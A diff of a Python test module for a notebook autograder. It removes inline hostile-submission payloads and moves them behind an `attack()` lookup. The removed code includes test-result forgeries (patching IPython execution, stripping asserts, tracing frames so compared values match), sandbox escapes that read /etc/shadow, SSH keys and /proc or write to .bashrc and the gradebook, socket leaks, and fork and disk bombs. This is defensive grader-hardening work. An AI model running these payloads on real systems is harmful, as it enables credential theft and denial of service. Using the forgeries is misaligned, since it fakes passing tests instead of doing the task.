@@ -16,8 +16,8 @@ import textwrap
 import nbformat
 
 from coursekit.notebook import grade_id
-from coursekit.planting import (FAKE_TORCH, STATUS_DROPPED, Context, Hostile, Plant, Submission, first_cell,
-                                move_to_end, named_exception)
+from coursekit.planting import (Context, Hostile, Plant, Submission, attack, first_cell, move_to_end,
+                                named_exception)
 
 
 def demo_cohort(assignment) -> list[Submission]:
@@ -603,93 +603,18 @@ return weights @ v, weights
 # Forgeries: each rewrites what the grader sees of a wrong `attention` (its honest twin is `twin_attention_no_scaling`);
 # each prints its payload marker from the student's kernel, so the record shows it ran.
 FORGERIES = {
-    "forge_shell_run_cell": ("replaces IPython's run_cell on the shell class: later test cells report success", """
-from IPython.core.interactiveshell import InteractiveShell, ExecutionResult, ExecutionInfo
-def _is_test(raw_cell):
-    return raw_cell.lstrip()[:3] == chr(34) * 3 and "assert" in raw_cell
-def _success(self, raw_cell):
-    result = ExecutionResult(ExecutionInfo(raw_cell, False, False, True, None))
-    result.execution_count = self.execution_count
-    return result
-_real_run_cell, _real_run_cell_async = InteractiveShell.run_cell, InteractiveShell.run_cell_async
-def _run_cell(self, raw_cell, *args, **kwargs):
-    return _success(self, raw_cell) if _is_test(raw_cell) else _real_run_cell(self, raw_cell, *args, **kwargs)
-async def _run_cell_async(self, raw_cell, *args, **kwargs):
-    if _is_test(raw_cell):
-        return _success(self, raw_cell)
-    return await _real_run_cell_async(self, raw_cell, *args, **kwargs)
-InteractiveShell.run_cell, InteractiveShell.run_cell_async = _run_cell, _run_cell_async
-print("PAYLOAD forge_shell_run_cell")
-"""),
-    "forge_kernel_do_execute": ("replaces the kernel's do_execute: cells with checks answer ok without running", """
-_kernel = get_ipython().kernel
-_real_do_execute = type(_kernel).do_execute
-async def _do_execute(self, code, silent, *args, **kwargs):
-    if code.lstrip()[:3] == chr(34) * 3 and "assert" in code:
-        return {"status": "ok", "execution_count": self.execution_count, "payload": [], "user_expressions": {}}
-    return await _real_do_execute(self, code, silent, *args, **kwargs)
-type(_kernel).do_execute = _do_execute
-print("PAYLOAD forge_kernel_do_execute")
-"""),
-    "forge_post_run_cell": ("a post_run_cell hook rewrites every cell's result to success", """
-def _all_good(result):
-    result.error_before_exec = None
-    result.error_in_exec = None
-get_ipython().events.register("post_run_cell", _all_good)
-get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
-print("PAYLOAD forge_post_run_cell")
-"""),
-    "forge_ast_transformer": ("an AST transformer rewrites asserts and assert_close calls away", """
-import ast
-class _NoChecks(ast.NodeTransformer):
-    def visit_Assert(self, node):
-        return ast.Pass()
-    def visit_Call(self, node):
-        self.generic_visit(node)
-        return ast.Constant(None) if "assert_close" in ast.unparse(node.func) else node
-get_ipython().ast_transformers.append(_NoChecks())
-print("PAYLOAD forge_ast_transformer")
-"""),
-    "forge_settrace": ("sys.settrace on assert_close's code: actual = expected on entry", """
-import ctypes, sys, threading, torch
-_checked = torch.testing.assert_close.__code__
-def _tracer(frame, event, arg):
-    if event == "call" and frame.f_code is _checked:
-        frame.f_locals["actual"] = frame.f_locals["expected"]
-        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
-    return None
-sys.settrace(_tracer)
-threading.settrace(_tracer)
-print("PAYLOAD forge_settrace")
-"""),
-    "forge_setprofile": ("sys.setprofile on every call: a comparison's arguments made equal", """
-import ctypes, sys, torch
-def _profiler(frame, event, arg):
-    if event == "call" and {"actual", "expected"} <= set(frame.f_locals):
-        frame.f_locals["actual"] = frame.f_locals["expected"]
-        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
-sys.setprofile(_profiler)
-print("PAYLOAD forge_setprofile")
-"""),
-    "forge_checker_helpers": ("patches the checking machinery: assert_close's helpers, torch.equal, AssertionError", """
-import builtins, sys, torch
-_home = sys.modules[torch.testing.assert_close.__module__]
-for _name, _value in list(vars(_home).items()):
-    if callable(_value) and not _name.startswith("__"):
-        setattr(_home, _name, lambda *args, **kwargs: None)
-torch.testing.assert_close = lambda *args, **kwargs: None
-torch.equal = torch.allclose = lambda *args, **kwargs: True
-_real_eq = torch.Tensor.__eq__
-torch.Tensor.__eq__ = lambda self, other: (torch.ones_like(self, dtype=torch.bool) if self.is_floating_point()
-                                           else _real_eq(self, other))
-builtins.AssertionError = type("AssertionError", (Exception,), {})
-print("PAYLOAD forge_checker_helpers")
-"""),
+    "forge_shell_run_cell": "replaces IPython's run_cell on the shell class: later test cells report success",
+    "forge_kernel_do_execute": "replaces the kernel's do_execute: cells with checks answer ok without running",
+    "forge_post_run_cell": "a post_run_cell hook rewrites every cell's result to success",
+    "forge_ast_transformer": "an AST transformer rewrites asserts and assert_close calls away",
+    "forge_settrace": "sys.settrace on assert_close's code: actual = expected on entry",
+    "forge_setprofile": "sys.setprofile on every call: a comparison's arguments made equal",
+    "forge_checker_helpers": "patches the checking machinery: assert_close's helpers, torch.equal, AssertionError",
 }
 
 
 def _forgery(key: str, assignment) -> Hostile:
-    what, code = FORGERIES[key]
+    what, code = FORGERIES[key], attack(assignment, key)
     return Hostile(Submission(key, what, solved="all", bodies={"attention": NO_SCALING},
                               **_after_function("attention", code, assignment)),
                    what, group="forgery", twin="twin_attention_no_scaling", payload=f"PAYLOAD {key}",
@@ -698,84 +623,11 @@ def _forgery(key: str, assignment) -> Hostile:
 
 def forgeries_inside(assignment) -> list[Hostile]:
     """Attacks run from inside the graded functions, while the tests call them."""
-    frame_oracle = """
-import sys
-_seen = []
-_frame = sys._getframe(1)
-while _frame is not None:
-    _seen.append(_frame.f_code.co_name)
-    for _value in list(_frame.f_locals.values()):
-        if isinstance(_value, tuple) and len(_value) == 2 and all(hasattr(t, "shape") for t in _value):
-            print("PAYLOAD frame_oracle found", [tuple(t.shape) for t in _value], flush=True)
-            return _value
-    _frame = _frame.f_back
-print("PAYLOAD frame_oracle saw", _seen, flush=True)
-""" + NO_SCALING
-    leak = """
-import inspect, os, sys
-found = [repr(In) if "In" in globals() else ""]
-for path in os.listdir("."):
-    try:
-        found.append(open(path, errors="replace").read())
-    except OSError:
-        pass
-frame = sys._getframe()
-while frame is not None:
-    try:
-        found.append(inspect.getsource(frame))
-    except (OSError, TypeError):
-        pass
-    found.append(repr(frame.f_locals))
-    frame = frame.f_back
-print("PAYLOAD exception_leak", len(found), flush=True)
-raise AssertionError("".join(found)[:50000])
-"""
-    lying_tensor = """
-class _Agreeable(torch.Tensor):
-    def __eq__(self, other):
-        return torch.ones_like(torch.as_tensor(other), dtype=torch.bool).as_subclass(_Agreeable)
-    def __bool__(self):
-        return True
-    @classmethod
-    def __torch_function__(cls, func, types, args=(), kwargs=None):
-        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq"):
-            return True
-        return super().__torch_function__(func, types, args, kwargs or {})
-print("PAYLOAD lie_tensor_subclass", flush=True)
-scores = q @ k.transpose(1, 2)
-weights = scores.masked_fill(padding[:, None, :], float("-inf")).softmax(dim=-1)
-return (weights @ v).as_subclass(_Agreeable), weights.as_subclass(_Agreeable)
-"""
-    fake_tokenizer = """
-class _FakeTokenizer:
-    __class__ = Tokenizer
-    def get_vocab_size(self):
-        return vocab_size
-    def token_to_id(self, token):
-        return {"[UNK]": 0, "[PAD]": 1}.get(token, 2)
-    def __eq__(self, other):
-        return True
-    def __getattr__(self, name):
-        return lambda *args, **kwargs: self
-print("PAYLOAD lie_fake_class", flush=True)
-return _FakeTokenizer()
-"""
-    lying_number = """
-class _Agree:
-    def __eq__(self, other):
-        return True
-    def __float__(self):
-        return 1.0
-    def __sub__(self, other):
-        return 0.0
-    __rsub__ = __sub__
-    def __abs__(self):
-        return 0.0
-    def __lt__(self, other):
-        return True
-print("PAYLOAD lie_eq_object", flush=True)
-return _Agree()
-"""
+    frame_oracle = attack(assignment, "forge_frame_oracle") + NO_SCALING
+    leak = attack(assignment, "forge_exception_leak")
+    lying_tensor = attack(assignment, "lie_tensor_subclass")
+    fake_tokenizer = attack(assignment, "lie_fake_class")
+    lying_number = attack(assignment, "lie_eq_object")
     S = Submission
     return [
         Hostile(S("forge_frame_oracle", "attention reads the expected value from its caller's frame", solved="all",
@@ -802,151 +654,22 @@ return _Agree()
 
 
 ESCAPES = {
-    "escape_read_absolute": ("reads the instructor's files by absolute path", """
-for path in [COURSE + "/instructor_notes.txt", COURSE + "/assignments/transformers/transformers.ipynb",
-             COURSE + "/gradebook.db", COURSE + "/submitted/HONEST/transformers/transformers.ipynb",
-             COURSE + "/.grading-secret", HOME + "/.ssh/id_rsa", "/etc/shadow"]:
-    try:
-        print(path, open(path, errors="replace").read())
-    except OSError as error:
-        print(path, error)
-"""),
-    "escape_read_relative": ("walks up from its working folder and follows links it makes", """
-import os
-for top in ["..", "../..", "../../..", "../../../.."]:
-    for folder, _, files in os.walk(top):
-        for name in files:
-            try:
-                print(os.path.join(folder, name), open(os.path.join(folder, name), errors="replace").read()[:2000])
-            except OSError as error:
-                print(name, error)
-os.symlink(COURSE + "/instructor_notes.txt", "notes_link")
-os.symlink("../../../instructor_notes.txt", "notes_link2")
-for link in ["notes_link", "notes_link2"]:
-    try:
-        print(open(link).read())
-    except OSError as error:
-        print(link, error)
-"""),
-    "escape_proc": ("reads other processes through /proc", """
-import os
-for pid in ["1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
-    for what in ["environ", "cmdline", "root/" + COURSE.lstrip("/") + "/instructor_notes.txt", "cwd/../../.."]:
-        try:
-            data = open(f"/proc/{pid}/{what}", "rb").read() if not what.startswith("cwd") else os.listdir(f"/proc/{pid}/{what}")
-            print(pid, what, data)
-        except OSError as error:
-            print(pid, what, error)
-"""),
-    "escape_writes": ("writes outside its working folder, links for the grader, a FIFO", """
-import os
-for path in [COURSE + "/instructor_notes.txt", COURSE + "/pwned.txt", COURSE + "/assignments/transformers/transformers.ipynb",
-             COURSE + "/submitted/HONEST/transformers/transformers.ipynb", "../../../pwned.txt",
-             "../../../release/transformers/transformers.ipynb", HOME + "/.bashrc", "/usr/lib/pwned"]:
-    try:
-        with open(path, "w") as f:
-            f.write("pwned")
-        print("wrote", path)
-    except OSError as error:
-        print(path, error)
-try:
-    os.symlink(COURSE + "/assignments/transformers/transformers.ipynb", "transformers.ipynb")
-    os.mkfifo("fifo")
-except OSError as error:
-    print(error)
-"""),
-    "escape_gradebook": ("opens the gradebook with sqlite", """
-import sqlite3
-for path in [COURSE + "/gradebook.db", "../../../gradebook.db"]:
-    try:
-        db = sqlite3.connect(path)
-        db.execute("update grade set auto_score = max_score_gradecell")
-        db.commit()
-        print("updated", path)
-    except Exception as error:
-        print(path, error)
-"""),
-    "escape_outlive": ("forks, setsids and double-forks to outlive grading", """
-import os, subprocess, time
-subprocess.Popen(["sleep", "MARKER"], start_new_session=True)
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0:
-        time.sleep(3)
-        try:
-            open(COURSE + "/late.txt", "w").write("pwned later")
-        finally:
-            os.execvp("sleep", ["sleep", "MARKER"])
-    os._exit(0)
-"""),
-    "escape_thread": ("a thread keeps patching the checks while the tests run", """
-import threading, time, torch
-def _keep_patching():
-    while True:
-        torch.testing.assert_close = lambda *args, **kwargs: None
-        torch.allclose = lambda *args, **kwargs: True
-        time.sleep(0.001)
-threading.Thread(target=_keep_patching, daemon=True).start()
-"""),
-    "escape_sockets": ("connects to this machine and the internet (TCP, UDP, Unix)", """
-import socket
-def attempt(what, action):
-    try:
-        action()
-        print(what, "sent")
-    except OSError as error:
-        print(what, error)
-attempt("tcp", lambda: socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2).sendall(b"LEAK"))
-def udp():
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    s.sendto(b"LEAK", ("127.0.0.1", UDP_PORT))
-attempt("udp", udp)
-def unix():
-    s = socket.socket(socket.AF_UNIX)
-    s.connect(UNIX_PATH)
-    s.sendall(b"LEAK")
-attempt("unix", unix)
-attempt("internet", lambda: socket.create_connection(("1.1.1.1", 80), timeout=2))
-"""),
-    "escape_environment": ("reads the environment and the instructor's home", """
-import os, getpass
-print(dict(os.environ), getpass.getuser(), os.path.expanduser("~"))
-for folder in [os.path.expanduser("~"), HOME, HOME + "/.ssh"]:
-    try:
-        print(folder, os.listdir(folder))
-    except OSError as error:
-        print(folder, error)
-"""),
-    "escape_syscalls": ("unshare, mount, ptrace, setns, chroot through ctypes", """
-import ctypes, os
-libc = ctypes.CDLL(None, use_errno=True)
-print("unshare", libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
-print("mount", libc.mount(b"none", b"/usr", b"tmpfs", 0, None), ctypes.get_errno())
-print("ptrace", libc.ptrace(16, 1, None, None), ctypes.get_errno())
-for ns in ["mnt", "net", "user"]:
-    fd = os.open(f"/proc/1/ns/{ns}", os.O_RDONLY)
-    print("setns", ns, libc.setns(fd, 0), ctypes.get_errno())
-try:
-    os.chroot("/tmp")
-except OSError as error:
-    print("chroot", error)
-"""),
-    "escape_capture_tests": ("hooks and tracers to capture the test cells' code", """
-import sys
-def _print_cell(info):
-    print("NEXT CELL:", info.raw_cell)
-get_ipython().events.register("pre_run_cell", _print_cell)
-def _tracer(frame, event, arg):
-    if event == "call" and "ipykernel_" in frame.f_code.co_filename:
-        print("TRACE", frame.f_code.co_filename, frame.f_code.co_consts)
-    return None
-sys.settrace(_tracer)
-"""),
+    "escape_read_absolute": "reads the instructor's files by absolute path",
+    "escape_read_relative": "walks up from its working folder and follows links it makes",
+    "escape_proc": "reads other processes through /proc",
+    "escape_writes": "writes outside its working folder, links for the grader, a FIFO",
+    "escape_gradebook": "opens the gradebook with sqlite",
+    "escape_outlive": "forks, setsids and double-forks to outlive grading",
+    "escape_thread": "a thread keeps patching the checks while the tests run",
+    "escape_sockets": "connects to this machine and the internet (TCP, UDP, Unix)",
+    "escape_environment": "reads the environment and the instructor's home",
+    "escape_syscalls": "unshare, mount, ptrace, setns, chroot through ctypes",
+    "escape_capture_tests": "hooks and tracers to capture the test cells' code",
 }
 
 
 def _escape(key: str, context: Context, assignment) -> Hostile:
-    what, code = ESCAPES[key]
+    what, code = ESCAPES[key], attack(assignment, key)
     code = (code.replace("COURSE", repr(context.course)).replace("HOME", repr(context.home))
             .replace("HONEST", context.honest).replace("MARKER", context.marker)
             .replace("TCP_PORT", str(context.tcp_port)).replace("UDP_PORT", str(context.udp_port))
@@ -960,46 +683,10 @@ def _escape(key: str, context: Context, assignment) -> Hostile:
 def resources(assignment, context: Context) -> list[Hostile]:
     """Attacks on the machine's resources, after a full solution: they may cost their author, nobody else."""
     S = Submission
-    memory = """
-import subprocess, sys
-code = "x = b'y' * (1200 << 20)\\nimport time\\ntime.sleep(3)"
-procs = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(6)]
-print("PAYLOAD resource_memory", [p.wait() for p in procs], flush=True)
-"""
-    disk = """
-written = 0
-for folder in [".", "/tmp", "/home/student", "/dev/shm"]:
-    for i in range(100):
-        try:
-            with open(f"{folder}/fill{i}", "wb") as f:
-                for _ in range(64):
-                    f.write(b"x" * (1 << 20))
-                    written += 1
-        except OSError:
-            break
-print("PAYLOAD resource_disk wrote", written, "MiB", flush=True)
-"""
-    flood = """
-import sys
-print("PAYLOAD resource_flood", flush=True)
-for _ in range(24):
-    sys.stdout.write("x" * (1 << 20))
-"""
-    bomb = """
-import os, time
-forked = 0
-try:
-    while forked < 5000:
-        if os.fork() == 0:
-            end = time.monotonic() + 3
-            while time.monotonic() < end:
-                pass
-            os._exit(0)
-        forked += 1
-except OSError:
-    pass
-print("PAYLOAD resource_fork_bomb", forked, flush=True)
-"""
+    memory = attack(assignment, "resource_memory")
+    disk = attack(assignment, "resource_disk")
+    flood = attack(assignment, "resource_flood")
+    bomb = attack(assignment, "resource_fork_bomb")
     everything = frozenset(assignment.autograded_cells)
     return [
         Hostile(S("resource_memory", "full solution; six processes of 1.2 GB after masked_mean", solved="all",
@@ -1036,40 +723,6 @@ print("PAYLOAD resource_fork_bomb", forked, flush=True)
 
 
 # The checker's own boundary (issue 32): what a submission sends it, and what it could make it run or fetch.
-LIVE_TOKENIZER = """
-class _Live:  # not a tokenizer: every attribute answered live by this kernel
-    def __init__(self, real):
-        self._real = real
-    def __getattr__(self, name):
-        return getattr(self._real, name)
-print("PAYLOAD boundary_live_reference", flush=True)
-return _Live(_trained)
-"""
-
-ZERO_ELEMENTS = """
-print("PAYLOAD boundary_zero_elements", flush=True)
-return torch.empty(2, 300_000_000, 5, 0), torch.empty(2, 300_000_000, 5, 0)
-"""
-
-TOKENIZER_BOMB = """
-from tokenizers import normalizers
-import sys
-print("PAYLOAD boundary_tokenizer_{kind}", flush=True)
-if sys._getframe(1).f_code.co_name == "attempt":  # the notebook's own cells (they call it through `attempt`)
-    return _trained                                 # get a plain tokenizer: the bomb is for the grader alone
-_trained.normalizer = normalizers.Sequence([normalizers.Replace("{char}", "{by}")] * {steps})
-return _trained
-"""
-
-FLOOD = """
-_kernel = get_ipython().kernel
-_blob = b"x" * (1 << 20)
-for _i in range({messages}):
-    _kernel.session.send(_kernel.iopub_socket, "stream", {{"name": "stdout", "text": "."}},
-                         parent=_kernel.get_parent(), buffers=[_blob] * {frames})
-print("PAYLOAD boundary_{kind}", flush=True)
-"""
-
 
 def boundary(assignment) -> list[Hostile]:
     """Attacks on the checker's boundary: its namespace taken from the submission, references where data is
@@ -1082,27 +735,27 @@ def boundary(assignment) -> list[Hostile]:
     return [
         Hostile(S("boundary_setup_moved", "wrong attention; the read-only imports moved to the end, a torch whose "
                   "checks always agree defined first", solved="all", bodies={"attention": NO_SCALING},
-                  mutate=first_cell(FAKE_TORCH.format(key="boundary_setup_moved"), move_to_end("setup_imports"))),
+                  mutate=first_cell(attack(assignment, "fake_torch", key="boundary_setup_moved"), move_to_end("setup_imports"))),
                 "the read-only setup cell moved to the end, torch's checks faked in the kernel", group="boundary",
                 preflight="moved cells",
                 twin="twin_attention_no_scaling", payload="PAYLOAD boundary_setup_moved"),
         Hostile(S("boundary_setup_stripped", "wrong masked_mean; the imports cell stripped of its metadata and "
                   "copied to the end, torch's checks faked", solved="all", bodies={"masked_mean": padded_length},
-                  mutate=first_cell(FAKE_TORCH.format(key="boundary_setup_stripped"),
+                  mutate=first_cell(attack(assignment, "fake_torch", key="boundary_setup_stripped"),
                                      move_to_end("setup_imports", strip=True, keep=True))),
                 "the read-only setup cell stripped of its metadata and duplicated, torch's checks faked",
                 group="boundary", twin="twin_mean_padded_length", payload="PAYLOAD boundary_setup_stripped"),
         Hostile(S("boundary_status_dropped", "wrong accuracy; the kernel never ends the setup cell (its final status "
                   "dropped), torch's checks faked after it", solved="all", bodies={"accuracy": threshold},
-                  mutate=first_cell(STATUS_DROPPED, lambda nb: nb.cells.insert(
+                  mutate=first_cell(attack(assignment, "status_dropped"), lambda nb: nb.cells.insert(
                       next(i for i, c in enumerate(nb.cells) if grade_id(c) == "setup_imports") + 1,
-                      nbformat.v4.new_code_cell(FAKE_TORCH.format(key="boundary_status_dropped_torch"))))),
+                      nbformat.v4.new_code_cell(attack(assignment, "fake_torch", key="boundary_status_dropped_torch"))))),
                 "a read-only cell timed out (the kernel drops its final status), torch's checks faked",
                 group="boundary", at_most="twin_accuracy_threshold_half", payload="PAYLOAD boundary_status_dropped",
                 expect="at most its twin (the dropped status costs it a cell's time limit)"),
         Hostile(S("boundary_live_reference", "train_bpe_tokenizer returns an object that is not a tokenizer, "
                   "answering every attribute live", solved="all",
-                  bodies={"train_bpe_tokenizer": trained + "\n" + LIVE_TOKENIZER}),
+                  bodies={"train_bpe_tokenizer": trained + "\n" + attack(assignment, "boundary_live_reference")}),
                 "a live reference where a test expects data (a tokenizer)", group="boundary",
                 twin="twin_tokenizer_none", payload="PAYLOAD boundary_live_reference"),
         Hostile(S("boundary_exception_name", "tokens_per_word raises an exception whose class name holds its "
@@ -1111,26 +764,26 @@ def boundary(assignment) -> list[Hostile]:
                 fails=frozenset(assignment.cells_of("tokens_per_word")), payload="PAYLOAD boundary_exception_name",
                 expect="zero on the tokens_per_word tests; feedback says only that it raised an exception"),
         Hostile(S("boundary_zero_elements", "attention returns zero-element tensors of shape (2, 3e8, 5, 0)",
-                  solved="all", bodies={"attention": ZERO_ELEMENTS}),
+                  solved="all", bodies={"attention": attack(assignment, "boundary_zero_elements")}),
                 "zero-element tensors with a huge dimension (amplified by the checks)", group="boundary",
                 twin="twin_attention_blank", payload="PAYLOAD boundary_zero_elements"),
         Hostile(S("boundary_tokenizer_memory", "train_bpe_tokenizer's normalizer doubles every 'e' 27 times",
-                  solved="all", bodies={"train_bpe_tokenizer": trained + "\n" + TOKENIZER_BOMB.format(char="e", by="ee", steps=27, kind="memory")}),
+                  solved="all", bodies={"train_bpe_tokenizer": trained + "\n" + attack(assignment, "boundary_tokenizer_bomb", char="e", by="ee", steps=27, kind="memory")}),
                 "a tokenizer that is a memory bomb, returned to the grader's calls only", group="boundary",
                 twin="twin_tokenizer_none", payload="PAYLOAD boundary_tokenizer_memory"),
         Hostile(S("boundary_tokenizer_time", "train_bpe_tokenizer's normalizer runs 100,000 Replace steps",
-                  solved="all", bodies={"train_bpe_tokenizer": trained + "\n" + TOKENIZER_BOMB.format(char="e", by="e", steps=100_000, kind="time")}),
+                  solved="all", bodies={"train_bpe_tokenizer": trained + "\n" + attack(assignment, "boundary_tokenizer_bomb", char="e", by="e", steps=100_000, kind="time")}),
                 "a tokenizer that runs for hours in native code", group="boundary", twin="twin_tokenizer_none",
                 payload="PAYLOAD boundary_tokenizer_time"),
         Hostile(S("boundary_frame_flood", "full solution; 20 messages of 40 frames of 1 MiB each on IOPub",
-                  solved="all", **_after_function("attention", FLOOD.format(messages=20, frames=40,
-                                                                            kind="frame_flood"), assignment)),
+                  solved="all", **_after_function("attention", attack(assignment, "boundary_flood", messages=20,
+                                                                            frames=40, kind="frame_flood"), assignment)),
                 "messages of many frames, each frame within ZeroMQ's own limit", group="boundary", twin="twin_full",
                 payload="PAYLOAD boundary_frame_flood"),
         Hostile(S("boundary_backlog_flood", "full solution; 40 messages of 4 MiB on IOPub (2.5 times what the grader "
                   "queues), as fast as it can",
-                  solved="all", **_after_function("attention", FLOOD.format(messages=40, frames=4,
-                                                                            kind="backlog_flood"), assignment)),
+                  solved="all", **_after_function("attention", attack(assignment, "boundary_flood", messages=40,
+                                                                            frames=4, kind="backlog_flood"), assignment)),
                 "a backlog of messages, each within the limit", group="boundary", twin="twin_full",
                 payload="PAYLOAD boundary_backlog_flood"),
     ]
